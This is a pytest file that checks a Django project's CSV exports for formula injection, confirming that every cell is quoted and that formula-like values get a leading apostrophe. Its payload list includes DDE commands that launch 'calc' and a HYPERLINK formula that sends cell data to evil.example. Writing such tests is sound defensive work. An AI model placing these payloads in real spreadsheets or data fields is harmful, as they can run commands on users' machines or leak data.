"""Issue #10, item 13: every CSV the project writes quotes every cell and neutralises a cell
that a spreadsheet would run as a formula (the CFMMC batch, kept and exported)."""

from __future__ import annotations

import csv
import io
import os
import stat
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from idrenew.lib.crypto import decrypt_bytes
from idrenew.outbox.cfmmc import HEADER, CustomerChange, DailyFileCfmmcAdapter

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '  =HYPERLINK("http://evil.example/?"&A1)',
    "＝1+1",
]


def change(**overrides: str) -> CustomerChange:
    values = {
        "change_id": "e1",
        "report_date": "2026-12-01",
        "fund_account": "80010002",
        "name": "李娜",
        "id_type": "身份证",
        "id_number": "310104199202162468",
        "valid_from": "20261121",
        "valid_to": "20461121",
        "address": "上海市浦东新区世纪大道100号",
        "case_reference": "ZJ20261201000001",
    }
    return CustomerChange(**{**values, **overrides})


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_all_quoted(text: str) -> None:
    """Written again with every cell quoted, the text is the same: every cell was quoted."""
    buf = io.StringIO()
    csv.writer(buf, quoting=csv.QUOTE_ALL).writerows(cells(text))
    assert buf.getvalue() == text


@pytest.mark.parametrize("formula", FORMULAS)
def test_cfmmc_export_neutralises_formula_cells(tmp_path: Path, formula: str) -> None:
    adapter = DailyFileCfmmcAdapter(tmp_path)
    adapter.report(change(address=formula, name=formula))
    text = adapter.export_csv("2026-12-01")
    assert_all_quoted(text)
    header, row = cells(text)
    assert header == HEADER
    record = dict(zip(header, row, strict=True))
    for key in ("address", "name"):
        assert record[key] == "'" + formula
    # The batch kept under the data dir is written the same way.
    kept = decrypt_bytes(adapter.path_for("2026-12-01").read_bytes()).decode("utf-8")
    assert_all_quoted(kept)
    assert dict(zip(HEADER, cells(kept)[1], strict=True))["address"] == "'" + formula
    # Read back and exported again: neutralised once, not twice.
    adapter.report(change(change_id="e2"))
    again = dict(zip(HEADER, cells(adapter.export_csv("2026-12-01"))[1], strict=True))
    assert again["address"] == "'" + formula


def test_genuine_values_are_unchanged(tmp_path: Path) -> None:
    adapter = DailyFileCfmmcAdapter(tmp_path)
    genuine = change(valid_to="长期", address="广东省深圳市南山区科技园(南区)T3-2#")
    adapter.report(genuine)
    header, row = cells(adapter.export_csv("2026-12-01"))
    assert row == [getattr(genuine, k) for k in header]


def test_a_comma_quote_or_line_break_cannot_start_a_cell(tmp_path: Path) -> None:
    adapter = DailyFileCfmmcAdapter(tmp_path)
    adapter.report(change(address='上海市,"=1+1"\n=2+2'))
    header, row = cells(adapter.export_csv("2026-12-01"))
    assert len(row) == len(header)
    assert dict(zip(header, row, strict=True))["address"] == '上海市,"=1+1"\n=2+2'


@pytest.mark.django_db
def test_the_export_command_writes_a_private_neutralised_file(
    settings: Any, tmp_path: Path
) -> None:
    settings.IDRENEW_CFMMC_DIR = tmp_path / "cfmmc"
    DailyFileCfmmcAdapter().report(change(address="=cmd|' /C calc'!A0"))
    out = tmp_path / "batch.csv"
    call_command("cfmmc", "export", "--date", "2026-12-01", "--out", str(out), stdout=StringIO())
    text = out.open(encoding="utf-8", newline="").read()
    assert_all_quoted(text)
    assert "\"'=cmd|' /C calc'!A0\"" in text
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600


def test_the_cell_rule() -> None:
    from idrenew.lib.csvsafe import neutralise_cell

    for formula in FORMULAS:
        assert neutralise_cell(formula) == "'" + formula
    for genuine in ("80010002", "20261121", "长期", "张伟", "", "'=1", "a=b", "3-2"):
        assert neutralise_cell(genuine) == genuine
    assert neutralise_cell(None) == ""
    assert neutralise_cell(-5) == "'-5"
